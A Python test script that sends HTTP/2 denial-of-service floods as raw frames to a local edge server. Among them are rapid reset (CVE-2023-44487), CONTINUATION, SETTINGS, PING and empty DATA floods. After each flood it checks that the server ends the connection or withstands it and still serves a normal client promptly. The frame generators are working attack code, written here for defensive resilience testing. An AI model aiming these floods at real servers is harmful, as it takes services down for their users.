"""Attacks on HTTP/2 in raw frames: the connection is closed or held to a cap, and the edge lives on.

Each attack has a connection of its own and a bound of frames; what counts is that the edge ends it before the bound,
or takes it without harm, and that a well-behaved client is served right after, and promptly.
"""

import json
import os
import socket
import ssl
import time
from urllib.parse import urlparse

import h2.config
import h2.connection
import h2.events
import h2.settings
import hyperframe.frame as frames
from hpack import Encoder

PORT = urlparse(os.environ["EDGE"]).port
CONTEXT = ssl.create_default_context(cafile=os.environ["CA"])
CONTEXT.set_alpn_protocols(["h2"])
with open(os.environ["STAGE"]) as file:
    TOKEN = json.load(file)["token"]
HEADERS = [
    (":method", "GET"),
    (":scheme", "https"),
    (":authority", f"localhost:{PORT}"),
    (":path", "/api/v1/auth/profile"),
    ("authorization", f"Bearer {TOKEN}"),
]


def dial():
    plain = socket.create_connection(("127.0.0.1", PORT), timeout=20)
    tls = CONTEXT.wrap_socket(plain, server_hostname="localhost")
    assert tls.selected_alpn_protocol() == "h2"
    connection = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    connection.initiate_connection()
    tls.sendall(connection.data_to_send())
    return tls, connection


def well_behaved():
    """One ordinary request on a connection of its own; returns its status and how long it took."""
    started = time.monotonic()
    tls, connection = dial()
    connection.send_headers(1, HEADERS, end_stream=True)
    tls.sendall(connection.data_to_send())
    status = None
    while True:
        data = tls.recv(65536)
        assert data, "the edge closed on a well-behaved client"
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[":status"])
            if isinstance(event, h2.events.StreamEnded):
                tls.close()
                return status, time.monotonic() - started
        tls.sendall(connection.data_to_send())


def attack(name, pieces, must_end):
    """Sends pieces until the edge ends the connection or there are none left."""
    tls, _ = dial()
    tls.settimeout(0.001)
    sent, ended, goaway = 0, False, False
    incoming = b""

    def read():
        nonlocal incoming, goaway
        while True:
            try:
                data = tls.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                return False
            if not data:
                return True
            incoming += data
            while len(incoming) >= 9:
                length = int.from_bytes(incoming[:3], "big")
                if len(incoming) < 9 + length:
                    break
                goaway = goaway or incoming[3] == 7
                incoming = incoming[9 + length :]

    try:
        for piece in pieces:
            tls.settimeout(20)
            tls.sendall(piece)
            sent += 1
            if sent % 20 == 0:
                tls.settimeout(0.001)
                if read():
                    ended = True
                    break
        until = time.monotonic() + 10
        while must_end and not ended and not goaway and time.monotonic() < until:
            tls.settimeout(0.1)
            ended = read()
    except (ConnectionError, ssl.SSLError, BrokenPipeError):
        ended = True
    tls.close()
    ended = ended or goaway
    assert ended or not must_end, f"{name}: the edge took all {sent} pieces"
    status, seconds = well_behaved()
    assert status == 200, f"{name}: afterwards a client gets {status}"
    assert seconds < 10, f"{name}: afterwards a client waits for {seconds:.1f} s"
    how = "the connection is ended" if ended else "taken without harm"
    print(f"{name}: {how} after {sent} pieces; the next client is served in {seconds * 1000:.0f} ms")


def headers_frame(encoder, stream, flags=("END_HEADERS", "END_STREAM")):
    frame = frames.HeadersFrame(stream, encoder.encode(HEADERS))
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def rapid_reset(count):
    encoder = Encoder()
    for at in range(count):
        stream = 1 + 2 * at
        yield headers_frame(encoder, stream) + frames.RstStreamFrame(stream, error_code=8).serialize()


def continuation(count):
    first = frames.HeadersFrame(1, Encoder().encode(HEADERS))
    yield first.serialize()
    for at in range(count):
        yield frames.ContinuationFrame(1, b"\x00\x04x%03d\x04%04d" % (at % 1000, at % 10000) * 40).serialize()


def empty_continuation(count):
    yield frames.HeadersFrame(1, Encoder().encode(HEADERS)).serialize()
    for _ in range(count):
        yield frames.ContinuationFrame(1, b"").serialize()


def settings(count):
    frame = frames.SettingsFrame(0, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
    for _ in range(count):
        yield frame * 10


def pings(count):
    for at in range(count):
        yield frames.PingFrame(0, opaque_data=at.to_bytes(8, "big")).serialize() * 10


def empty_data(count):
    post = [(":method", "POST"), *HEADERS[1:3], (":path", "/api/v1/projects"), HEADERS[4]]
    frame = frames.HeadersFrame(1, Encoder().encode(post))
    frame.flags.add("END_HEADERS")
    yield frame.serialize()
    for _ in range(count):
        yield frames.DataFrame(1, b"").serialize() * 10


assert well_behaved()[0] == 200
attack("rapid reset (CVE-2023-44487)", rapid_reset(20_000), must_end=True)
attack("CONTINUATION flood (CVE-2024-27316)", continuation(5_000), must_end=True)
attack("empty CONTINUATION flood", empty_continuation(20_000), must_end=True)
attack("SETTINGS flood (CVE-2019-9515)", settings(2_000), must_end=False)
attack("PING flood (CVE-2019-9512)", pings(2_000), must_end=False)
attack("empty DATA flood (CVE-2019-9518)", empty_data(2_000), must_end=False)
